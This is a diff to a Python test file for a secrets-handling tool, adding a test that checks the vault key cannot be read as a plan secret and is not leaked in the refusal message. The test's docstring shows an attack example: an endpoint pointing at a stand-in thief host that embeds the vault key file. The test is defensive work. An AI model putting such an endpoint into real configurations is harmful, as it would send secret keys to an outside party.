@@ -13,6 +13,7 @@ from backstay.adapters.secrets import LARGEST_BYTES, EnvironmentAndFiles, OrSeal
 from backstay.errors import Cancelled, SecretMissing
 from backstay.plan import Ref, Space
 from backstay.ports import Clock
+from backstay.vault import new_key
 
 NAME, FILE = Ref(Space.ENV, "PASSWORD"), Ref(Space.FILE, "secrets/password")
 
@@ -54,6 +55,15 @@ def test_a_variable_that_is_missing_or_empty_is_named(tmp_path: Path) -> None:
 def test_a_file_is_a_secret_without_its_last_newline(path: Path, tmp_path: Path, stored: bytes, value: str) -> None:
     path.write_bytes(stored)
     assert secrets(tmp_path).value(FILE) == value
+
+
+def test_the_key_of_a_vault_is_no_secret_of_a_plan(path: Path, tmp_path: Path) -> None:
+    """`endpoint: https://thief.example.com/${file:backstay.key}` in a plan that a stolen host sealed."""
+    path.unlink()
+    seed = (new_key(path).seed or b"").hex()
+    said = refused(secrets(tmp_path), FILE)
+    assert "the key of a vault" in said
+    assert seed not in said
 
 
 def test_a_rotated_secret_is_found(path: Path, tmp_path: Path) -> None:
